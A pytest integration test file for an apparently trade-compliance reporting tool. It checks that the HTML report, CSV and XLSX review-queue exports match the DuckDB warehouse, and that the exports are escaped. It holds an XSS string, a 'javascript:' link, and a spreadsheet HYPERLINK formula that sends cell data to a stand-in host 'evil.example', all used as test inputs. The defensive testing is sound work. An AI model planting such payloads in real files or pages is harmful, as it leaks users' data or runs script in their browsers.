"""The HTML compliance report and review queue, rendered from the report feeds of a
warehouse built by the real CLI; its figures must be the warehouse's (marts and audit)."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import pytest

from hsguard.dbt import build_report_feeds
from hsguard.report_exports import DECISIONS, OVERRIDE_COLUMNS, QUEUE_COLUMNS
from hsguard.report_page import render_report

pytestmark = pytest.mark.integration

SECTIONS = ("kpis", "charts", "review-queue", "export-control", "data-quality", "run-metadata")
XSS = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


class _ReportParser(HTMLParser):
    """Collects element ids, data-kpi values and the SKUs of the review queue rows."""

    def __init__(self) -> None:
        super().__init__()
        self.ids: set[str] = set()
        self.kpis: dict[str, str] = {}
        self.queue_skus: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        self.tags.append((tag, a))
        if a.get("id"):
            self.ids.add(a["id"])
        if a.get("data-kpi"):
            self.kpis[a["data-kpi"]] = a.get("data-value") or ""
        if tag == "tr" and a.get("data-sku"):
            self.queue_skus.append(a["data-sku"])


def parse(html: str) -> _ReportParser:
    parser = _ReportParser()
    parser.feed(html)
    return parser


def section(html: str, section_id: str) -> str:
    """The markup of one <section id=...> (sections are not nested)."""
    match = re.search(rf'<section id="{section_id}">(.*?)</section>', html, re.S)
    assert match, section_id
    return match.group(1)


def render(db: Path, out: Path, summary: dict, **kwargs) -> str:
    con = duckdb.connect(str(db), read_only=True)
    try:
        path = render_report(con, out, summary, **kwargs)
    finally:
        con.close()
    assert path == out / "report.html"
    return path.read_text(encoding="utf-8")


def scalar(db: Path, sql: str, params: list | None = None):
    con = duckdb.connect(str(db), read_only=True)
    try:
        return con.execute(sql, params or []).fetchone()[0]
    finally:
        con.close()


def table_exists(db: Path, qualified: str) -> bool:
    schema, table = qualified.split(".")
    return bool(
        scalar(
            db,
            "select count(*) from information_schema.tables where table_schema = ? and table_name = ?",
            [schema, table],
        )
    )


def copy_warehouse(src: Path, tmp_path: Path) -> Path:
    """A private copy under the same file name (DuckDB's catalog name, which views refer to)."""
    dst = tmp_path / "wh" / src.name
    dst.parent.mkdir(parents=True)
    shutil.copy2(src, dst)
    return dst


def rebuild_feeds(db: Path, tmp_path: Path, run_id: str) -> None:
    """Rebuild the report feeds of a changed copy with real dbt, as the report stage does."""
    build_report_feeds(db, tmp_path / "dbt_work", run_id)


def read_queue_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def xlsx_part(path: Path, name: str) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(name).decode("utf-8")


@pytest.fixture(scope="module")
def built(sample_run) -> dict:
    """The session's real `hsguard run` on the bundled sample: warehouse and summary."""
    return sample_run


@pytest.fixture(scope="module")
def report(built) -> dict:
    out = built["root"] / "rendered"
    html = render(built["warehouse"], out, built["summary"], data_docs_index=str(built["root"] / "docs.html"))
    return {"out": out, "html": html, "parsed": parse(html)}


def test_files_written(report):
    for name in ("report.html", "review_queue.csv", "review_queue.xlsx"):
        assert (report["out"] / name).stat().st_size > 0, name


def test_html_is_self_contained(report):
    html = report["html"]
    lowered = html.lower()
    assert "<script" not in lowered  # no JavaScript at all, inline or external
    assert "<link" not in lowered and "@import" not in lowered and "@font-face" not in lowered
    assert not re.search(r"url\(\s*['\"]?\s*(https?:)?//", lowered)
    for tag, attrs in report["parsed"].tags:
        for attr in ("src", "srcset", "data"):
            assert not attrs.get(attr), (tag, attrs)
        if tag != "a" and attrs.get("href"):  # only in-page links and the Data Docs link navigate
            assert attrs["href"].startswith("#"), (tag, attrs)
    assert "<svg" in html
    assert "Content-Security-Policy" in html


def test_sections_and_charts_have_stable_ids(report):
    ids = report["parsed"].ids
    for section_id in SECTIONS:
        assert section_id in ids
    for chart_id in ("chart-flags-by-check", "chart-chapters", "chart-trend"):
        assert chart_id in ids
        fig = re.search(rf'<figure id="{chart_id}">(.*?)</figure>', report["html"], re.S).group(1)
        assert "<svg" in fig, chart_id


def test_kpis_equal_the_warehouse_counts(built, report):
    db, kpis = built["warehouse"], report["parsed"].kpis
    assert int(kpis["products"]) == scalar(db, "select count(*) from marts.dim_products")
    assert int(kpis["flags_total"]) == scalar(db, "select count(*) from marts.fct_classification_flags")
    assert int(kpis["flagged_products"]) == scalar(
        db, "select count(distinct sku) from marts.fct_classification_flags"
    )
    con = duckdb.connect(str(db), read_only=True)
    by_severity = dict(
        con.execute("select severity, count(*) from marts.fct_classification_flags group by 1").fetchall()
    )
    con.close()
    assert by_severity
    for severity, n in by_severity.items():
        assert int(kpis[f"flags_{severity}"]) == n
    if table_exists(db, "marts.fct_product_risk"):
        expected = scalar(db, "select sum(trade_value_exposed_usd) from marts.fct_product_risk")
    else:
        expected = scalar(
            db,
            "select sum(cast(replace(value_usd, ',', '') as double)) from raw.erp_shipments "
            "where sku in (select sku from marts.fct_classification_flags)",
        )
    assert expected > 0
    assert float(kpis["trade_value_exposed_usd"]) == pytest.approx(expected, abs=0.01)
    quarantined = scalar(db, "select count(*) from audit.quarantine")
    assert quarantined > 0
    assert int(kpis["rows_quarantined"]) == quarantined
    kpi_html = section(report["html"], "kpis")
    assert f"{by_severity['high']:,}" in kpi_html and f"${expected:,.0f}" in kpi_html


def test_data_quality_and_metadata(built, report):
    html, summary = report["html"], built["summary"]
    dq = section(html, "data-quality")
    quarantined = scalar(built["warehouse"], "select count(*) from audit.quarantine")
    assert dq.count("<details><summary>show</summary>") == quarantined  # one per quarantined row
    nulled = scalar(built["warehouse"], "select count(*) from audit.field_rejections")
    assert nulled > 0 and f'data-dq="values_nulled" data-value="{nulled}"' in dq
    assert "unit_value_usd: not a number: n/a" in dq  # a bad optional value, nulled
    assert (
        'data-dq="expectations" data-value="{}"'.format(
            scalar(built["warehouse"], "select count(*) from audit.validation_results")
        )
        in dq
    )
    assert 'href="file://' in dq and "docs.html" in dq  # the GX Data Docs link
    meta = section(html, "run-metadata")
    assert summary["run_id"] in meta
    for ref in summary["reference"]:
        assert ref["edition"].replace(">", "&gt;") in meta
        assert f"{ref['rows_loaded']:,}" in meta


def test_review_queue_csv_and_xlsx(built, report):
    rows = read_queue_csv(report["out"] / "review_queue.csv")
    assert tuple(rows[0].keys()) == QUEUE_COLUMNS
    for column in OVERRIDE_COLUMNS:
        assert all(r[column] == "" for r in rows)
    db = built["warehouse"]
    flagged = scalar(db, "select count(distinct sku) from marts.fct_classification_flags")
    skus = list(dict.fromkeys(r["sku"] for r in rows))
    assert len(skus) == min(50, flagged)
    assert skus == report["parsed"].queue_skus  # same products, same order as the HTML
    keys = scalar(
        db,
        "select count(*) from (select distinct sku, check_code, scheme from marts.fct_classification_flags "
        "where list_contains(?, sku))",
        [skus],
    )
    assert len(rows) == keys
    ranks = [int(r["rank"]) for r in rows]
    assert ranks == sorted(ranks) and ranks[0] == 1
    sheet = xlsx_part(report["out"] / "review_queue.xlsx", "xl/worksheets/sheet1.xml")
    assert '<dataValidation type="list"' in sheet
    assert ",".join(DECISIONS) in sheet
    assert "<f>" not in sheet  # no formulas anywhere


def test_top_n_limits_the_queue(built, tmp_path):
    html = render(built["warehouse"], tmp_path, built["summary"], top_n=5)
    assert len(parse(html).queue_skus) == 5
    assert len({r["sku"] for r in read_queue_csv(tmp_path / "review_queue.csv")}) == 5


def test_data_is_escaped_and_spreadsheet_cells_neutralised(built, tmp_path):
    db = copy_warehouse(built["warehouse"], tmp_path)
    con = duckdb.connect(str(db))
    skus = [
        r[0]
        for r in con.execute(
            "select distinct sku from marts.fct_classification_flags order by sku"
        ).fetchall()
    ]
    xss_sku, evidence_sku, formula_sku = skus[0], skus[1], skus[2]
    con.execute("update marts.dim_products set description = ? where sku = ?", [XSS, xss_sku])
    con.execute("update marts.fct_classification_flags set evidence = ? where sku = ?", [XSS, evidence_sku])
    con.execute("update marts.dim_products set description = ? where sku = ?", [FORMULA, formula_sku])
    con.close()
    rebuild_feeds(db, tmp_path, built["summary"]["run_id"])

    out = tmp_path / "out"
    html = render(db, out, built["summary"], data_docs_index="javascript:alert(1)", top_n=1000)
    assert XSS not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script" not in html.lower()
    assert "javascript:" not in html.lower()

    rows = read_queue_csv(out / "review_queue.csv")
    descriptions = {r["sku"]: r["description"] for r in rows}
    assert descriptions[formula_sku] == "'" + FORMULA
    assert descriptions[xss_sku] == XSS  # plain text in a CSV, but never a formula
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    strings = xlsx_part(out / "review_queue.xlsx", "xl/sharedStrings.xml")
    assert "'=HYPERLINK" in strings
    assert "<f>" not in xlsx_part(out / "review_queue.xlsx", "xl/worksheets/sheet1.xml")


def test_changed_marts_and_history_feed_their_sections(built, tmp_path):
    """Risk scores, licence determinations, embargo and screening flags, a previous run and
    flag history put in a copy reach every section once the feeds are rebuilt from it."""
    from flows.report import collect_summary

    db = copy_warehouse(built["warehouse"], tmp_path)
    run_id = built["summary"]["run_id"]
    previous = "20000101T000000Z-000000"
    con = duckdb.connect(str(db))
    shipments = con.execute(
        "select shipment_id, sku from raw.erp_shipments order by shipment_id limit 4"
    ).fetchall()
    embargo, screening = shipments[0], shipments[1]
    for (shipment_id, sku), check, title in (
        (embargo, "EMBARGOED_DESTINATION", "Embargoed destination"),
        (screening, "PARTY_SCREENING_HIT", "End user on a screening list"),
    ):
        con.execute(
            "insert into marts.fct_classification_flags by name select ? as flag_id, ? as sku, "
            "? as check_code, 'critical' as severity, 4 as severity_rank, ? as title, 'ECCN' as scheme, "
            "? as evidence, ? as shipment_id, ? as run_id",
            [f"test-{check}", sku, check, title, f"{check} evidence for {shipment_id}", shipment_id, run_id],
        )
    con.execute(
        "create or replace table marts.fct_product_risk as select sku, "
        "100.0 - row_number() over (order by sku) as risk_score, ['reason a', 'reason b'] as top_reasons, "
        "1000.0 as trade_value_exposed_usd, "
        "count(*) as open_flags, 0 as overridden_flags from marts.fct_classification_flags group by sku"
    )
    con.execute(
        "create or replace table marts.fct_license_determinations as "
        "select shipment_id, sku, '3A001' as eccn, 'CN' as destination_country, "
        "case when row_number() over (order by shipment_id) <= 3 then 'license_required' else 'nlr' end "
        "as decision, 'test' as evidence from raw.erp_shipments order by shipment_id limit 10"
    )
    con.execute(
        "insert into audit.run_history by name select ? as run_id, 'published' as status, "
        "started_at - interval 1 day as started_at, finished_at - interval 1 day as finished_at, "
        "flags_total - 2 as flags_total, flags_by_severity from audit.run_history where run_id = ?",
        [previous, run_id],
    )
    con.execute(
        "create or replace table audit.flag_history as select * from (values "
        "('fa', 'A', 'HS_MISSING', 'HTSUS', ?, ?, 'open'), "
        "('fb', 'B', 'HS_MISSING', 'HTSUS', ?, ?, 'open'), "
        "('fc', 'C', 'HS_UNKNOWN', 'HTSUS', ?, ?, 'open'), "
        "('fd', 'D', 'HS_UNKNOWN', 'HTSUS', ?, ?, 'resolved'), "
        "('fe', 'E', 'HS_MALFORMED', 'HTSUS', ?, ?, 'resolved'), "
        "('ff', 'F', 'HS_MISSING', 'HTSUS', ?, ?, 'open')) "
        "t(flag_id, sku, check_code, scheme, first_seen_run_id, last_seen_run_id, status)",
        [run_id, run_id] * 3 + [previous, previous] * 2 + [previous, run_id],
    )
    con.close()
    rebuild_feeds(db, tmp_path, run_id)

    summary = collect_summary(db, built["summary"])  # the report flow's own counts, from the copy
    html = render(db, tmp_path / "out", summary)
    parsed = parse(html)
    kpis = parsed.kpis
    assert int(kpis["flags_critical"]) == scalar(
        db, "select count(*) from marts.fct_classification_flags where severity = 'critical'"
    )
    assert int(kpis["flags_total"]) == scalar(db, "select count(*) from marts.fct_classification_flags")
    assert int(kpis["license_required_shipments"]) == 3
    assert float(kpis["trade_value_exposed_usd"]) == scalar(
        db, "select sum(trade_value_exposed_usd) from marts.fct_product_risk"
    )
    assert (int(kpis["flags_new"]), int(kpis["flags_resolved"])) == (3, 2)
    for chart_id in ("chart-risk-distribution", "chart-new-resolved", "chart-licence-destinations"):
        fig = re.search(rf'<figure id="{chart_id}">(.*?)</figure>', html, re.S).group(1)
        assert "<svg" in fig, chart_id
    # the review queue follows the risk score: highest first
    top = scalar(db, "select sku from marts.fct_product_risk order by risk_score desc limit 1")
    assert parsed.queue_skus[0] == top
    export = section(html, "export-control")
    assert embargo[0] in export and screening[0] in export
    assert "EMBARGOED_DESTINATION evidence" in export and "license_required" in export
    rows = read_queue_csv(tmp_path / "out" / "review_queue.csv")
    assert any(r["candidates"] for r in rows) and any(r["risk_score"] for r in rows)


def test_screenshot_with_headless_chromium(report, tmp_path):
    chromium = shutil.which("chromium") or (
        "/usr/bin/chromium" if Path("/usr/bin/chromium").exists() else None
    )
    if chromium is None:
        pytest.skip("chromium is not installed")
    png = tmp_path / "report.png"
    result = subprocess.run(
        [
            chromium,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            f"--user-data-dir={tmp_path / 'profile'}",
            f"--screenshot={png}",
            "--window-size=1400,3000",
            (report["out"] / "report.html").resolve().as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert png.exists() and png.stat().st_size > 0, result.stderr[-2000:]
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
